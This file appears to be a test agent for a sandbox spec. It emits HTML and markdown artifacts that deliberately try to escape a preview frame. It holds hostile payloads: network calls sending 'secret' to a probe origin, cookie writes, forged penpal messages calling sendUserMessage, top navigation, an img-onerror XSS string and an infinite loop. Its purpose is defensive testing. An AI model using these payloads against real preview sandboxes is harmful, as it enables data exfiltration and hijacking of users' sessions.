// The artifact agent of e2e/specs/rich-artifacts.spec.ts (id `demo`). Its HTML artifact draws on
// a canvas and then tries everything a hostile preview would: network (fetch, XHR, image, beacon,
// WebSocket, a form post), the frame's bridge (penpal-shaped messages to parent and top), top
// navigation, a popup, cookies and storage. Each attempt writes its outcome into #log; any
// request that escapes lands on ARTIFACT_PROBE_ORIGIN, which the spec asserts got nothing.
const PROBE = process.env.ARTIFACT_PROBE_ORIGIN
if (!PROBE) throw new Error('artifacts.mjs needs ARTIFACT_PROBE_ORIGIN')

const SCRIPT = `
const log = (k, v) => { const li = document.createElement('li'); li.dataset.k = k; li.textContent = k + ': ' + v; document.getElementById('log').append(li) }
const c = document.getElementById('c').getContext('2d'); c.fillStyle = 'rgb(200, 30, 30)'; c.fillRect(0, 0, 120, 60)
document.getElementById('drawn').textContent = 'drawn'
const tryIt = async (k, f) => { try { const v = await f(); log(k, 'ALLOWED ' + String(v).slice(0, 60)) } catch (e) { log(k, 'blocked ' + (e && e.name)) } }
;(async () => {
  await tryIt('fetch', () => fetch('${PROBE}/fetch?d=secret').then((r) => r.status))
  await tryIt('xhr', () => new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open('GET', '${PROBE}/xhr'); x.onload = () => ok(x.status); x.onerror = () => no(new Error('NetworkError')); x.send() }))
  await tryIt('image', () => new Promise((ok, no) => { const i = new Image(); i.onload = () => ok('loaded'); i.onerror = () => no(new Error('ImageError')); i.src = '${PROBE}/img.png' }))
  await tryIt('beacon', () => { if (!navigator.sendBeacon('${PROBE}/beacon', 'x')) throw new Error('BeaconRefused'); return 'queued' })
  await tryIt('websocket', () => new Promise((ok, no) => { const w = new WebSocket('${PROBE.replace('http', 'ws')}/ws'); w.onopen = () => ok('open'); w.onerror = () => no(new Error('WebSocketError')) }))
  await tryIt('cookie', () => { document.cookie = 'stolen=1'; return document.cookie })
  await tryIt('localStorage', () => { localStorage.setItem('x', '1'); return localStorage.getItem('x') })
  await tryIt('parent', () => { parent.postMessage({ namespace: 'penpal', type: 'SYN', participantId: 'artifact' }, '*'); parent.postMessage({ penpal: 'call', methodName: 'sendUserMessage', args: [{ text: 'pwned' }] }, '*'); return parent.document.title })
  await tryIt('top', () => { top.postMessage({ namespace: 'penpal', type: 'SYN', participantId: 'artifact' }, '*'); top.location = '${PROBE}/top'; return 'navigated' })
  await tryIt('popup', () => { const w = window.open('${PROBE}/popup'); if (!w) throw new Error('PopupBlocked'); return 'opened' })
  await tryIt('form', () => { const f = document.createElement('form'); f.method = 'post'; f.action = '${PROBE}/form'; document.body.append(f); f.submit(); return 'submitted' })
  log('done', 'yes')
})()
`

const HTML = `<!doctype html><html><head><title>probe</title></head><body><h1>Artifact</h1><canvas id="c" width="120" height="60"></canvas><p id="drawn"></p><ul id="log"></ul><script>${SCRIPT}</script></body></html>`

export default {
  id: 'demo',
  name: 'Artifact test agent',
  async *run() {
    yield { type: 'text', text: 'Here is your page.\n\n' }
    yield { type: 'artifact', id: 'a-html', artifact: { kind: 'html', title: 'Probe page', content: HTML } }
    yield { type: 'artifact', id: 'a-svg', artifact: { kind: 'svg', title: 'A circle', content: '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><circle id="dot" cx="50" cy="50" r="40" fill="teal"/></svg>' } }
    yield { type: 'artifact', id: 'a-md', artifact: { kind: 'markdown', title: 'Notes', content: '# Notes\n\n- one\n- **two**\n\n<img src=x onerror="window.__pwned=1">' } }
    yield { type: 'artifact', id: 'a-code', artifact: { kind: 'code', title: 'hello.py', language: 'python', content: 'print("hello")\n' } }
    yield { type: 'artifact', id: 'a-loop', artifact: { kind: 'html', title: 'Endless loop', content: '<p>spinning</p><script>for (;;) {}</script>' } }
    yield { type: 'text', text: 'Done.' }
  },
}
